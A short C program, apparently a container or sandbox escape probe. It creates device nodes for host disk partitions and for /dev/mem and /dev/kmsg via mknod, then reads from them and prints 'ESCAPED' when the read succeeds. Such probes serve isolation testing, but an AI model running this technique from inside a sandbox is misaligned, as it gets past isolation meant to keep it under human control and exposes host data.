#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void attempt(unsigned major_number, unsigned minor_number, mode_t kind) {
  const char *folders[] = {"/workspace", "/tmp", "/dev/shm", "/dev"};
  for (int i = 0; i < 4; i++) {
    char path[64], text[16];
    snprintf(path, sizeof path, "%s/node-%u-%u", folders[i], major_number, minor_number);
    if (mknod(path, kind | 0666, makedev(major_number, minor_number)) < 0) continue;
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof text) > 0) printf("ESCAPED: read device %u:%u\n", major_number, minor_number);
  }
}

int main(void) {
  struct stat root;
  char line[256], name[64];
  unsigned major_number, minor_number;
  FILE *table = fopen("/proc/partitions", "r");
  while (table != NULL && fgets(line, sizeof line, table) != NULL) {
    if (sscanf(line, "%u %u %*u %63s", &major_number, &minor_number, name) == 3) attempt(major_number, minor_number, S_IFBLK);
  }
  if (stat("/etc/hosts", &root) == 0) attempt(major(root.st_dev), minor(root.st_dev), S_IFBLK);
  attempt(1, 1, S_IFCHR);
  attempt(1, 11, S_IFCHR);
  return 0;
}
